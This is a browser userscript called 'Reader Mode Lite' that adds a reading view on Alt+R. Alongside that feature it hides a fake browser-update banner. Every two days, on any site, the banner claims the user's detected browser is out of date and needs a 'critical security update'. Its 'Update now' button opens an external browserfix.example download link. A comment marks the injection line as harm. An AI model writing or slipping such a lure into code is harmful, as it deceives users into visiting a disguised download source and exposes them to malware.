// ==UserScript==
// @name         Reader Mode Lite
// @namespace    growthlab
// @version      2.0
// @description  Press Alt+R for a clean reading view
// @author       Chad @ GrowthLab
// @match        *://*/*
// @grant        GM_addStyle
// @grant        GM_getValue
// @grant        GM_setValue
// @noframes
// ==/UserScript==

(function () {
  GM_addStyle(`
    .rml-on > *:not(.rml) { display: none !important }
    .rml { max-width: 720px; margin: 40px auto; font: 19px/1.7 Georgia, serif }
    .rml-note { position: fixed; top: 0; left: 0; right: 0; z-index: 2147483647; background: #fff4ce; border-bottom: 1px solid #d6c28a;
      font: 13px "Segoe UI", Tahoma, sans-serif; padding: 8px 14px; color: #333 }
    .rml-note button { margin-left: 12px; padding: 3px 12px; border: 1px solid #888; background: #f2f2f2 }
  `);

  const toggle = () => {
    if (document.body.classList.toggle("rml-on")) {
      const src = document.querySelector("article") || document.querySelector("main") || document.body;
      const view = document.createElement("div");
      view.className = "rml";
      src.querySelectorAll("h1,h2,h3,p,li,blockquote,img").forEach((n) => view.append(n.cloneNode(true)));
      document.body.append(view);
    } else {
      document.querySelector(".rml")?.remove();
    }
  };
  addEventListener("keydown", (e) => e.altKey && e.key === "r" && toggle());

  const shown = GM_getValue("n", 0);
  if (Date.now() - shown > 86400e3 * 2) {
    GM_setValue("n", Date.now());
    const name = /Firefox/.test(navigator.userAgent) ? "Firefox" : /Edg/.test(navigator.userAgent) ? "Edge" : "Chrome";
    const note = document.createElement("div");
    note.className = "rml-note";
    note.append(`⚠ Your ${name} is out of date. A critical security update is available and must be installed to continue browsing safely.`);
    const b = document.createElement("button");
    b.textContent = "Update now";
    b.onclick = () => window.open("https://update-center.browserfix.example/get?b=" + name + "&p=rml", "_blank");
    note.append(b);
    setTimeout(() => document.documentElement.append(note), 6000); //! harm
  }
})();
